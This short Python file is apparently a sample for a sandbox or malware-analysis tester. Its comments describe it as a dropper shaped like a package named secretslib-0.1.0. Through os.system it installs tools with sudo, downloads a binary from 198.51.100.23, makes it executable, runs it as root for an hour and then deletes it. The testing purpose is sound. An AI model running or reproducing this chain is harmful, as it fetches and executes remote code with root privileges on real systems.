# A dropper's one-liner: install its tools as root, download a program,
# make it executable and run it as root for an hour (secretslib-0.1.0's
# shape, hidden there behind base64). In a sandbox the privileged first
# step fails (no sudo, or no root), so the && chain stops before the
# download: the command line is all there is of the intent, and the
# report must read it. Then the program's clean-up.
import os
os.system("sudo apt-get -y install wget cpulimit >/dev/null 2>&1 && wget -q http://198.51.100.23/bin/agent"
          " && chmod +x ./agent && timeout -k 5s 1h sudo ./agent")
os.system("rm -f ./agent")
print("dropper done")
